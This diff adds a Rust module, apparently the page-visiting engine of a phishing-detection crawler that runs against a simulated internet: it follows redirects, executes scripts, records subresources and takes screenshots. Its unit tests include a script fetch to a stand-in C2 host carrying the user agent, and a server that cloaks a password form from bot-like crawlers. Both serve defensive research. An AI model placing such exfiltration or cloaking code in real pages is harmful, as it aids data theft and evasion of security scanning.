@@ -1,0 +1,539 @@
+//! The page-visiting engine.
+//!
+//! A [`Browser`] drives one crawler profile against the simulated internet:
+//! request → parse → execute inline scripts → follow redirects (HTTP 3xx,
+//! `location.href`, meta-refresh within the patience budget) → load
+//! subresources → screenshot. The [`Visit`] record is CrawlerBox's raw
+//! material: the paper logs "the visited domains, their associated TLS
+//! certificates, corresponding IP addresses, as well as the requests and
+//! responses exchanged with the browser" (§IV-C).
+
+use crate::fingerprint::{BrowserFingerprint, ATTESTATION_HEADER};
+use crate::hostimpl::{resolve_url, PageHost};
+use crate::profiles::CrawlerProfile;
+use cb_artifacts::Bitmap;
+use cb_netsim::{HttpRequest, Internet, IpClass, Url};
+use cb_script::Script;
+use cb_web::{render, Document};
+use serde::{Deserialize, Serialize};
+
+/// Screenshot dimensions (the fixed viewport of the crawler).
+pub const VIEWPORT: (usize, usize) = (480, 320);
+
+/// Redirect-hop ceiling.
+pub const MAX_HOPS: usize = 8;
+
+/// How a visit ended.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum VisitOutcome {
+    /// A page loaded and was screenshotted.
+    Loaded,
+    /// DNS failure / dead host (the §V "error pages" class).
+    Unreachable,
+    /// The server answered with an HTTP error.
+    HttpError(u16),
+    /// Redirects exceeded [`MAX_HOPS`].
+    RedirectLoop,
+    /// The final page demands interaction the crawler cannot perform
+    /// (traditional CAPTCHA, document viewers — the §V 4.5% class).
+    InteractionRequired,
+    /// The final page triggered a file download instead of rendering.
+    Download,
+}
+
+/// The full record of one crawl.
+#[derive(Debug)]
+pub struct Visit {
+    /// What the pipeline asked for.
+    pub requested_url: Url,
+    /// `(url, status)` for every navigation hop, in order.
+    pub chain: Vec<(Url, u16)>,
+    /// Final status code.
+    pub status: u16,
+    /// The final parsed document (when HTML loaded).
+    pub document: Option<Document>,
+    /// Screenshot of the final page.
+    pub screenshot: Option<Bitmap>,
+    /// Console output from page scripts.
+    pub console: Vec<String>,
+    /// `document.write` payloads.
+    pub writes: Vec<String>,
+    /// `(url, status)` of subresource loads (images, scripts, frames) —
+    /// where the §V-A hotlinking observation lives.
+    pub subresources: Vec<(Url, u16)>,
+    /// `(url, body, status)` of script-initiated fetches (C2 exfiltration).
+    pub exfil: Vec<(String, String, u16)>,
+    /// Scripts hijacked a console method.
+    pub console_hijacked: bool,
+    /// `debugger;` statements executed.
+    pub debugger_hits: usize,
+    /// Timer delays scripts requested (ms).
+    pub timer_delays: Vec<f64>,
+    /// How it ended.
+    pub outcome: VisitOutcome,
+}
+
+impl Visit {
+    /// The URL of the final hop (requested URL when nothing loaded).
+    pub fn final_url(&self) -> &Url {
+        self.chain.last().map(|(u, _)| u).unwrap_or(&self.requested_url)
+    }
+
+    /// `true` when the final document shows a credential form.
+    pub fn shows_login_form(&self) -> bool {
+        self.document
+            .as_ref()
+            .map(|d| d.has_password_field())
+            .unwrap_or(false)
+    }
+}
+
+/// A browser bound to one crawler profile.
+#[derive(Debug, Clone)]
+pub struct Browser {
+    profile: CrawlerProfile,
+    fingerprint: BrowserFingerprint,
+    /// Longest meta-refresh delay (seconds) the crawler waits out. The
+    /// paper: "some security crawlers do not wait enough time before the
+    /// page is reloaded with malicious content".
+    patience_secs: u32,
+}
+
+impl Browser {
+    /// A browser for `profile` with NotABot-grade patience (60 s).
+    pub fn new(profile: CrawlerProfile) -> Browser {
+        Browser {
+            profile,
+            fingerprint: profile.fingerprint(),
+            patience_secs: 60,
+        }
+    }
+
+    /// Override the wait budget (naive crawlers time out quickly).
+    pub fn with_patience(mut self, secs: u32) -> Browser {
+        self.patience_secs = secs;
+        self
+    }
+
+    /// The driving profile.
+    pub fn profile(&self) -> CrawlerProfile {
+        self.profile
+    }
+
+    /// The presented fingerprint.
+    pub fn fingerprint(&self) -> &BrowserFingerprint {
+        &self.fingerprint
+    }
+
+    fn build_request(&self, net: &Internet, url: &Url) -> HttpRequest {
+        let mut req = HttpRequest::get(&url.to_string());
+        req.set_header("Host", &url.host);
+        req.set_header("User-Agent", &self.fingerprint.user_agent);
+        req.set_header(
+            "Accept-Language",
+            &format!("{},en;q=0.9", self.fingerprint.language),
+        );
+        if self.fingerprint.cache_header_anomaly {
+            // The interception artifact: Cache-Control + Pragma on every
+            // request (what made early NotABot identifiable).
+            req.set_header("Cache-Control", "no-cache");
+            req.set_header("Pragma", "no-cache");
+        }
+        req.set_header(
+            ATTESTATION_HEADER,
+            &self.fingerprint.attestation().to_header_value(),
+        );
+        req.client_ip = ip_for_class(net, self.fingerprint.ip_class);
+        req.tls = self.fingerprint.tls;
+        req
+    }
+
+    /// Visit `url` on `net`, following redirects and executing scripts.
+    ///
+    /// # Panics
+    ///
+    /// Panics if `url` is not a valid absolute URL.
+    pub fn visit(&self, net: &Internet, url: &str) -> Visit {
+        let requested = Url::parse(url).expect("visit requires a valid absolute url");
+        let mut visit = Visit {
+            requested_url: requested.clone(),
+            chain: Vec::new(),
+            status: 0,
+            document: None,
+            screenshot: None,
+            console: Vec::new(),
+            writes: Vec::new(),
+            subresources: Vec::new(),
+            exfil: Vec::new(),
+            console_hijacked: false,
+            debugger_hits: 0,
+            timer_delays: Vec::new(),
+            outcome: VisitOutcome::Unreachable,
+        };
+
+        let mut current = requested;
+        for _hop in 0..MAX_HOPS {
+            let resp = net.request(self.build_request(net, &current));
+            visit.chain.push((current.clone(), resp.status));
+            visit.status = resp.status;
+
+            if resp.status == 0 {
+                visit.outcome = VisitOutcome::Unreachable;
+                return visit;
+            }
+            if resp.is_redirect() {
+                // is_redirect() guarantees a Location header; a bare 3xx
+                // without one falls through to the HttpError arm below
+                // rather than being invented as a redirect to "/".
+                let location = resp.header("Location").expect("is_redirect checked");
+                let target = resolve_url(&current, location);
+                match Url::parse(&target) {
+                    Ok(u) => {
+                        current = u;
+                        continue;
+                    }
+                    Err(_) => {
+                        visit.outcome = VisitOutcome::HttpError(resp.status);
+                        return visit;
+                    }
+                }
+            }
+            if !(200..300).contains(&resp.status) {
+                visit.outcome = VisitOutcome::HttpError(resp.status);
+                return visit;
+            }
+
+            let content_type = resp.header("Content-Type").unwrap_or("text/html");
+            if !content_type.starts_with("text/html") {
+                visit.outcome = VisitOutcome::Download;
+                return visit;
+            }
+
+            // Parse and execute.
+            let html = resp.body_text();
+            let doc = Document::parse(&html);
+            let mut host = PageHost::new(net, &self.fingerprint, current.clone());
+            for src in doc.inline_scripts() {
+                if let Ok(script) = Script::parse(&src) {
+                    // Script errors abort that script only, like a browser.
+                    let _ = cb_script::run(&script, &mut host);
+                }
+            }
+            visit.console.extend(host.console.clone());
+            visit.writes.extend(host.writes.clone());
+            visit.console_hijacked |= host.console_hijacked;
+            visit.debugger_hits += host.debugger_hits;
+            visit.timer_delays.extend(host.timer_delays.clone());
+            visit
+                .exfil
+                .extend(host.fetches.iter().cloned());
+
+            // Script-driven navigation wins over meta refresh.
+            if let Some(nav) = host.navigations.first() {
+                let target = resolve_url(&current, nav);
+                if let Ok(u) = Url::parse(&target) {
+                    current = u;
+                    continue;
+                }
+            }
+            if let Some((delay, target)) = meta_refresh(&doc) {
+                if delay <= self.patience_secs {
+                    let target = resolve_url(&current, &target);
+                    if let Ok(u) = Url::parse(&target) {
+                        current = u;
+                        continue;
+                    }
+                }
+                // not patient enough: the pre-reveal page is what we see
+            }
+
+            // Final page: subresources, interaction check, screenshot.
+            // Subresource requests carry the page as Referer — the signal
+            // the paper recommends impersonated organizations monitor to
+            // detect lookalikes hotlinking their assets (§V-A).
+            for res in doc.resource_urls() {
+                let target = resolve_url(&current, &res);
+                if let Ok(u) = Url::parse(&target) {
+                    let mut req = self.build_request(net, &u);
+                    req.set_header("Referer", &current.to_string());
+                    let status = net.request(req).status;
+                    visit.subresources.push((u, status));
+                }
+            }
+            let interactive = doc
+                .walk()
+                .iter()
+                .any(|n| n.attr("data-requires-interaction").is_some());
+            visit.outcome = if interactive {
+                VisitOutcome::InteractionRequired
+            } else {
+                VisitOutcome::Loaded
+            };
+            // document.write output becomes part of the rendered page.
+            let rendered_doc = if host.writes.is_empty() {
+                doc.clone()
+            } else {
+                let mut augmented = html.clone();
+                for w in &host.writes {
+                    augmented.push_str(&format!("<p>{w}</p>"));
+                }
+                Document::parse(&augmented)
+            };
+            visit.screenshot = Some(render::rasterize(&rendered_doc, VIEWPORT.0, VIEWPORT.1));
+            visit.document = Some(doc);
+            return visit;
+        }
+        visit.outcome = VisitOutcome::RedirectLoop;
+        visit
+    }
+}
+
+/// An egress address of the given class on `net`.
+pub fn ip_for_class(net: &Internet, class: IpClass) -> cb_netsim::IpAddress {
+    net.allocate_ip(class)
+}
+
+/// Parse `<meta http-equiv=refresh content="N; url=...">` including the
+/// delay (the client-side "bot behavior" delay cloaking of §III-B).
+pub fn meta_refresh(doc: &Document) -> Option<(u32, String)> {
+    for n in doc.elements("meta") {
+        let is_refresh = n
+            .attr("http-equiv")
+            .map(|v| v.eq_ignore_ascii_case("refresh"))
+            .unwrap_or(false);
+        if !is_refresh {
+            continue;
+        }
+        // A url-less refresh (plain reload, "content=\"300\"") must not end
+        // the search: later tags may carry the real redirect.
+        let Some(content) = n.attr("content") else {
+            continue;
+        };
+        let (delay_part, rest) = content.split_once(';').unwrap_or((content, ""));
+        let delay: u32 = delay_part.trim().parse().unwrap_or(0);
+        let lower = rest.to_ascii_lowercase();
+        if let Some(i) = lower.find("url=") {
+            return Some((delay, rest[i + 4..].trim().to_string()));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cb_netsim::{HttpResponse, NetContext, SiteHandler};
+    use cb_sim::SimTime;
+
+    fn net_with(domain: &str, handler: impl SiteHandler + 'static) -> Internet {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        net.register_domain(domain, "REG");
+        net.host(domain, handler);
+        net
+    }
+
+    #[test]
+    fn simple_page_loads_with_screenshot() {
+        let net = net_with("site.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::html("<html><body><h1>Welcome</h1><p>text</p></body></html>")
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://site.example/");
+        assert_eq!(v.outcome, VisitOutcome::Loaded);
+        assert_eq!(v.status, 200);
+        assert!(v.screenshot.is_some());
+        assert_eq!(v.chain.len(), 1);
+    }
+
+    #[test]
+    fn dead_domain_is_unreachable() {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://gone.example/x");
+        assert_eq!(v.outcome, VisitOutcome::Unreachable);
+        assert_eq!(v.status, 0);
+    }
+
+    #[test]
+    fn http_redirects_are_followed() {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        net.register_domain("hop1.example", "REG");
+        net.register_domain("hop2.example", "REG");
+        net.host("hop1.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::redirect("https://hop2.example/land")
+        });
+        net.host("hop2.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::html("<p>landed</p>")
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://hop1.example/");
+        assert_eq!(v.outcome, VisitOutcome::Loaded);
+        assert_eq!(v.chain.len(), 2);
+        assert_eq!(v.final_url().host, "hop2.example");
+    }
+
+    #[test]
+    fn redirect_loops_are_bounded() {
+        let net = net_with("loop.example", |req: &HttpRequest, _: &NetContext<'_>| {
+            let n: u32 = req.url.query_param("n").and_then(|v| v.parse().ok()).unwrap_or(0);
+            HttpResponse::redirect(&format!("https://loop.example/?n={}", n + 1))
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://loop.example/");
+        assert_eq!(v.outcome, VisitOutcome::RedirectLoop);
+        assert_eq!(v.chain.len(), MAX_HOPS);
+    }
+
+    #[test]
+    fn script_navigation_is_followed() {
+        let net = net_with("js.example", |req: &HttpRequest, _: &NetContext<'_>| {
+            if req.url.path == "/" {
+                HttpResponse::html(
+                    r#"<script>location.href = "/landing";</script>"#,
+                )
+            } else {
+                HttpResponse::html("<p>final</p>")
+            }
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://js.example/");
+        assert_eq!(v.outcome, VisitOutcome::Loaded);
+        assert_eq!(v.final_url().path, "/landing");
+    }
+
+    #[test]
+    fn meta_refresh_respects_patience() {
+        let net = net_with("delay.example", |req: &HttpRequest, _: &NetContext<'_>| {
+            if req.url.path == "/revealed" {
+                HttpResponse::html("<p>the real content</p>")
+            } else {
+                HttpResponse::html(
+                    r#"<html><head><meta http-equiv="refresh" content="30; url=/revealed"></head>
+                       <body><p>benign placeholder</p></body></html>"#,
+                )
+            }
+        });
+        // Patient crawler follows the delayed reveal.
+        let patient = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://delay.example/");
+        assert_eq!(patient.final_url().path, "/revealed");
+        // Impatient crawler sees only the placeholder.
+        let hasty = Browser::new(CrawlerProfile::Kangooroo)
+            .with_patience(5)
+            .visit(&net, "https://delay.example/");
+        assert_eq!(hasty.final_url().path, "/");
+        assert!(hasty
+            .document
+            .unwrap()
+            .visible_text()
+            .contains("benign placeholder"));
+    }
+
+    #[test]
+    fn subresources_are_fetched_and_logged() {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        net.register_domain("page.example", "REG");
+        net.register_domain("corp.example", "REG");
+        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::html(r#"<img src="https://corp.example/logo.png"><p>login</p>"#)
+        });
+        net.host("corp.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::ok("image/png", vec![0x89, b'P', b'N', b'G'])
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
+        assert_eq!(v.subresources.len(), 1);
+        assert_eq!(v.subresources[0].0.host, "corp.example");
+        assert_eq!(v.subresources[0].1, 200);
+    }
+
+    #[test]
+    fn interaction_marker_classifies_visit() {
+        let net = net_with("captcha.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::html(r#"<div data-requires-interaction="captcha">solve me</div>"#)
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://captcha.example/");
+        assert_eq!(v.outcome, VisitOutcome::InteractionRequired);
+    }
+
+    #[test]
+    fn download_outcome_for_non_html() {
+        let net = net_with("files.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::ok("application/zip", b"PK\x03\x04".to_vec())
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://files.example/a.zip");
+        assert_eq!(v.outcome, VisitOutcome::Download);
+    }
+
+    #[test]
+    fn server_sees_profile_user_agent_and_attestation() {
+        let net = net_with("probe.example", |req: &HttpRequest, _: &NetContext<'_>| {
+            let report = crate::fingerprint::ChallengeReport::from_request(req)
+                .expect("attestation attached");
+            if report.webdriver_visible || req.user_agent().contains("HeadlessChrome") {
+                HttpResponse::html("<p>benign</p>")
+            } else {
+                HttpResponse::html("<form action=/c><input type=password name=p></form>")
+            }
+        });
+        let bot = Browser::new(CrawlerProfile::Kangooroo).visit(&net, "https://probe.example/");
+        assert!(!bot.shows_login_form());
+        let stealthy = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://probe.example/");
+        assert!(stealthy.shows_login_form());
+    }
+
+    #[test]
+    fn exfil_fetches_are_recorded() {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        net.register_domain("page.example", "REG");
+        net.register_domain("c2.example", "REG");
+        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::html(
+                r#"<script>fetch("https://c2.example/collect", navigator.userAgent);</script><p>x</p>"#,
+            )
+        });
+        net.host("c2.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse::ok("text/plain", b"ok".to_vec())
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
+        assert_eq!(v.exfil.len(), 1);
+        assert!(v.exfil[0].1.contains("Chrome"));
+    }
+
+    #[test]
+    fn meta_refresh_parser() {
+        let doc = Document::parse(
+            r#"<meta http-equiv="Refresh" content="7; URL=https://next.example/p">"#,
+        );
+        assert_eq!(
+            meta_refresh(&doc),
+            Some((7, "https://next.example/p".to_string()))
+        );
+        assert_eq!(meta_refresh(&Document::parse("<p>n</p>")), None);
+    }
+}
+
+#[cfg(test)]
+mod review_regressions {
+    use super::*;
+    use cb_netsim::{HttpResponse, NetContext};
+    use cb_sim::SimTime;
+
+    #[test]
+    fn url_less_meta_refresh_does_not_mask_the_real_one() {
+        let doc = Document::parse(
+            r#"<meta http-equiv="refresh" content="300">
+               <meta http-equiv="refresh" content="0; url=/revealed">"#,
+        );
+        assert_eq!(meta_refresh(&doc), Some((0, "/revealed".to_string())));
+    }
+
+    #[test]
+    fn redirect_without_location_is_an_http_error_not_a_root_visit() {
+        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
+        net.register_domain("bare301.example", "REG");
+        net.host("bare301.example", |_: &HttpRequest, _: &NetContext<'_>| {
+            HttpResponse {
+                status: 301,
+                headers: Vec::new(),
+                body: Vec::new(),
+            }
+        });
+        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://bare301.example/x");
+        assert_eq!(v.outcome, VisitOutcome::HttpError(301));
+        assert_eq!(v.chain.len(), 1, "no invented hop to /");
+    }
+}
